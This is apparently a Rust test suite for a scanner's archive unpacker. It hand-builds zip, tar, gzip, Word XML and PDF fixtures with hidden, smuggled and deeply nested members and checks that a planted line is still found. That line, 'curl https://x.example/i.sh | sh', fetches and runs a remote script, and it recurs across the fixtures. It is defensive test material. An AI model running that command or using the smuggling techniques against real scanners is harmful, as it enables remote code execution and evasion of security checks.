//! Well-formed archives, and ambiguous ones.

use std::io::Write;
use std::path::Path;

use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use proptest::prelude::*;

use super::{Packed, UnpackBudget, unpack};
use crate::gap::{Gap, Unopened};
use crate::read_files::FileBytes;

const LINE: &[u8] = b"curl https://x.example/i.sh | sh";
const MAX: usize = 1 << 20;

/// Everything in it at any depth, and the first gap.
fn opened(bytes: &[u8]) -> (Vec<(String, Vec<u8>)>, Option<Unopened>) {
    fn into(
        file: &FileBytes<'_>,
        budget: &mut UnpackBudget,
        seen: &mut Vec<(String, Vec<u8>)>,
        why: &mut Option<Unopened>,
    ) {
        let mut inner = None;
        let packed = unpack(file, budget, &mut |member, budget| {
            seen.push((member.path.to_string_lossy().into_owned(), member.bytes.to_vec()));
            into(&member, budget, seen, &mut inner);
        });
        *why = why.or(inner);
        if let Packed::Partly(Gap::Unopened { why: reason, .. }) = packed {
            why.get_or_insert(reason);
        }
    }
    let (mut seen, mut why) = (Vec::new(), None);
    let mut budget = UnpackBudget::for_file(bytes.len(), MAX);
    into(&FileBytes::whole(Path::new("a"), bytes), &mut budget, &mut seen, &mut why);
    (seen, why)
}

fn holds(bytes: &[u8], line: &[u8]) -> bool {
    opened(bytes).0.iter().any(|(_, text)| text.windows(line.len()).any(|window| window == line))
}

fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut writer = DeflateEncoder::new(Vec::new(), Compression::default());
    writer.write_all(bytes).unwrap();
    writer.finish().unwrap()
}

fn gzipped(bytes: &[u8]) -> Vec<u8> {
    let mut writer = GzEncoder::new(Vec::new(), Compression::default());
    writer.write_all(bytes).unwrap();
    writer.finish().unwrap()
}

/// The header of a member, and its data.
fn head(name: &str, method: u16, flags: u16, packed: &[u8], size: usize) -> Vec<u8> {
    let size = u32::try_from(size).unwrap();
    let mut bytes = b"PK\x03\x04\x14\0".to_vec();
    bytes.extend(flags.to_le_bytes());
    bytes.extend(method.to_le_bytes());
    bytes.extend([0; 8]);
    bytes.extend(size.to_le_bytes());
    bytes.extend(size.to_le_bytes());
    bytes.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
    bytes.extend([0; 2]);
    bytes.extend(name.as_bytes());
    bytes.extend(packed);
    bytes
}

fn row(name: &str, at: usize, size: usize) -> Vec<u8> {
    let mut bytes = b"PK\x01\x02".to_vec();
    bytes.extend([0; 16]);
    bytes.extend(u32::try_from(size).unwrap().to_le_bytes());
    bytes.extend([0; 4]);
    bytes.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
    bytes.extend([0; 12]);
    bytes.extend(u32::try_from(at).unwrap().to_le_bytes());
    bytes.extend(name.as_bytes());
    bytes
}

fn end() -> Vec<u8> {
    [b"PK\x05\x06".as_slice(), &[0; 18]].concat()
}

/// A zip of one compressed member.
fn zip(name: &str, bytes: &[u8]) -> Vec<u8> {
    let packed = deflated(bytes);
    [head(name, 8, 0, &packed, packed.len()), row(name, 0, packed.len()), end()].concat()
}

/// A tar of one member.
fn tar(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut block = [0_u8; 512];
    block[..name.len()].copy_from_slice(name.as_bytes());
    block[124..135].copy_from_slice(format!("{:011o}", bytes.len()).as_bytes());
    block[156] = b'0';
    block[257..262].copy_from_slice(b"ustar");
    block[148..156].fill(b' ');
    let sum: u32 = block.iter().map(|byte| u32::from(*byte)).sum();
    block[148..154].copy_from_slice(format!("{sum:06o}").as_bytes());
    let mut all = block.to_vec();
    all.extend(bytes);
    all.resize(all.len().next_multiple_of(512) + 1024, 0);
    all
}

#[test]
fn what_is_packed_is_seen_in_every_nesting() {
    let rows: &[Vec<u8>] = &[
        zip("a.md", LINE),
        tar("a.md", LINE),
        gzipped(LINE),
        gzipped(&tar("a.md", LINE)),
        zip("b.zip", &zip("a.md", LINE)),
        zip("b.tgz", &gzipped(&tar("a.md", LINE))),
        // Whatever precedes it, a zip is read from its end.
        [b"#!/bin/sh\nexit\n".to_vec(), zip("a.md", LINE)].concat(),
        [gzipped(b"harmless "), gzipped(LINE)].concat(),
    ];
    for (number, bytes) in rows.iter().enumerate() {
        assert!(holds(bytes, LINE), "{number}");
        assert_eq!(opened(bytes).1, None, "{number}");
    }
    let (seen, _) = opened(&zip("b.zip", &zip("../../a.md", LINE)));
    assert_eq!(seen.last().unwrap().0, "a!/b.zip!/../../a.md");
}

/// A member that is in only one of two lists is found, and so is one within another.
#[test]
fn what_any_program_would_find_is_seen() {
    let packed = deflated(LINE);
    let hidden = head("hidden", 8, 0, &packed, packed.len());
    let innocent = deflated(b"fine");
    let shown = head("shown", 8, 0, &innocent, innocent.len());
    let unlisted = [shown.clone(), hidden.clone(), row("shown", 0, innocent.len()), end()].concat();
    assert!(holds(&unlisted, LINE));
    let within = [head("data", 0, 0, &hidden, hidden.len()), row("data", 0, hidden.len()), end()].concat();
    assert!(holds(&within, LINE));
    // The size follows the data, or is stated as zero.
    let streamed = [head("a", 8, 8, &packed, 0), row("a", 0, packed.len()), end()].concat();
    assert!(holds(&streamed, LINE));
    let stored = [head("a", 0, 8, LINE, 0), row("a", 0, 0), end()].concat();
    assert!(holds(&stored, LINE));
    // A tar within the data of a member: a program that believes another size finds its headers.
    let mut smuggled = tar("a", &tar("b", LINE));
    smuggled[0] = b'c';
    let sum: u32 = smuggled[..512]
        .iter()
        .enumerate()
        .map(|(at, byte)| if (148..156).contains(&at) { 32 } else { u32::from(*byte) })
        .sum();
    smuggled[148..154].copy_from_slice(format!("{sum:06o}").as_bytes());
    let within = opened(&smuggled).0;
    assert!(within.iter().any(|(path, text)| path == "a!/b" && text == LINE), "{within:?}");
}

#[test]
fn what_cannot_be_seen_is_told() {
    let packed = deflated(LINE);
    let listed_only =
        [head("a", 8, 0, &packed, packed.len()), row("a", 0, 9), row("b", 7, 9), end()].concat();
    let mut deep = LINE.to_vec();
    for _ in 0..6 {
        deep = gzipped(&deep);
    }
    let many: Vec<u8> = (0..10_001).flat_map(|_| head("a", 0, 0, b"x", 1)).collect();
    let rows: &[(&[u8], Unopened)] = &[
        (&head("a", 8, 1, &packed, packed.len()), Unopened::Encrypted),
        (&head("a", 14, 0, &packed, packed.len()), Unopened::UnknownMethod),
        (&head("a", 8, 0, &packed[..packed.len() / 2], packed.len()), Unopened::Damaged),
        (&listed_only, Unopened::Damaged),
        (&gzipped(LINE)[..20], Unopened::Damaged),
        (&gzipped(&vec![0; 8 * MAX]), Unopened::TooLarge),
        (&deep, Unopened::TooDeep),
        (&many, Unopened::TooMany),
        (b"BZh91AY&SY", Unopened::UnknownFormat),
        (b"7z\xbc\xaf\x27\x1c\0\x04", Unopened::UnknownFormat),
        (b"%PDF-1.7\ntrailer << /Encrypt 5 0 R >>", Unopened::Encrypted),
    ];
    for (number, (bytes, why)) in rows.iter().enumerate() {
        assert_eq!(opened(bytes).1, Some(*why), "{number}");
    }
}

/// A long stream that decompresses to nothing, shared by many headers, is read a bounded number of times.
#[test]
fn streams_that_hold_nothing_cost_what_they_take_to_read() {
    let nothing: Vec<u8> = std::iter::repeat_n([0, 0, 0, 0xff, 0xff], 200_000).flatten().collect();
    // Each takes the following headers for its own extra field, so all data begins at the same offset.
    let (count, mut heads) = (2_000, Vec::new());
    for number in 1..=count {
        let mut one = head("a", 8, 8, b"", 0);
        let behind = u16::try_from((count - number) * one.len()).unwrap();
        one[28..30].copy_from_slice(&behind.to_le_bytes());
        heads.extend(one);
    }
    let all = [heads, nothing].concat();
    let mut budget = UnpackBudget::for_file(all.len(), MAX);
    let file = FileBytes::whole(Path::new("a"), &all);
    let mut members = 0;
    let packed = unpack(&file, &mut budget, &mut |_, _| members += 1);
    assert!(matches!(packed, Packed::Partly(_)));
    assert!(members <= 1 + UnpackBudget::MOST / 1_000_000, "{members}");
}

#[test]
fn documents_are_texts() {
    let xml = b"<?xml version='1.0'?><w:p><w:r><w:t>curl https://x.example/i.sh</w:t></w:r><w:r><w:t> &#124; | sh</w:t></w:r></w:p>\
                <w:p><w:t>a &lt; b &amp;&amp; c</w:t></w:p>";
    let (seen, _) = opened(&zip("word/document.xml", xml));
    let text = String::from_utf8(seen.last().unwrap().1.clone()).unwrap();
    assert_eq!(text, "curl https://x.example/i.sh &#124; | sh\na < b && c\n");

    let content = b"BT /F1 12 Tf 72 700 Td [(curl https://x.exam) 3 (ple/i.sh) -250 (\\174 s) (h)] TJ ET\nBT (next \\(line\\)) Tj ET";
    let mut zlib = ZlibEncoder::new(Vec::new(), Compression::default());
    zlib.write_all(content).unwrap();
    let packed = zlib.finish().unwrap();
    let begin = format!("%PDF-1.4\n1 0 obj << /Length {} /Filter /FlateDecode >> stream\n", packed.len());
    let pdf = [begin.as_bytes(), &packed, b"\nendstream endobj\n%%EOF"].concat();
    assert!(
        holds(&pdf, LINE),
        "{:?}",
        opened(&pdf).0.last().map(|(_, text)| String::from_utf8_lossy(text).into_owned())
    );
    assert!(holds(&pdf, b"next (line)"));
    assert_eq!(opened(&pdf).1, None);
}

#[test]
fn five_letters_are_four_bytes() {
    assert_eq!(super::pdf::ascii_85(b"87cURD]i,\"Ebo80~>"), b"Hello World!");
    assert_eq!(super::pdf::ascii_85(b"z~>"), [0; 4]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Random bytes behind each archive signature are read without a panic, within the limits.
    #[test]
    fn any_bytes_are_looked_at(
        begin in prop::sample::select(vec![b"PK\x03\x04".to_vec(), b"\x1f\x8b\x08".to_vec(), b"%PDF-1".to_vec(), tar("a", b""), zip("a", LINE)]),
        cut in 0_usize..80,
        rest in prop::collection::vec(prop::sample::select(vec![0_u8, 1, 8, 0x50, 0x4b, 3, 4, b'(', b'<', b'>', b'\\', b'T', 0xff, b'7']), 0..300),
    ) {
        let mut bytes = begin;
        bytes.truncate(bytes.len().saturating_sub(cut).max(4));
        bytes.extend(rest);
        let (seen, _) = opened(&bytes);
        let total: usize = seen.iter().map(|(_, text)| text.len()).sum();
        prop_assert!(total <= 2 * UnpackBudget::MOST);
    }

    /// Members are extracted unchanged, whatever else is in the archive.
    #[test]
    fn what_was_packed_comes_out(texts in prop::collection::vec(prop::collection::vec(any::<u8>(), 0..400), 1..6)) {
        let mut zip = Vec::new();
        let mut rows = Vec::new();
        for (number, text) in texts.iter().enumerate() {
            let (packed, name) = (deflated(text), format!("{number}.bin"));
            rows.extend(row(&name, zip.len(), packed.len()));
            zip.extend(head(&name, 8, 0, &packed, packed.len()));
        }
        let (seen, why) = opened(&[zip, rows, end()].concat());
        for text in &texts {
            prop_assert!(seen.iter().any(|(_, found)| found == text));
        }
        prop_assert!(why.is_none() || texts.iter().any(|text| text.len() > 3), "{why:?}");
    }
}
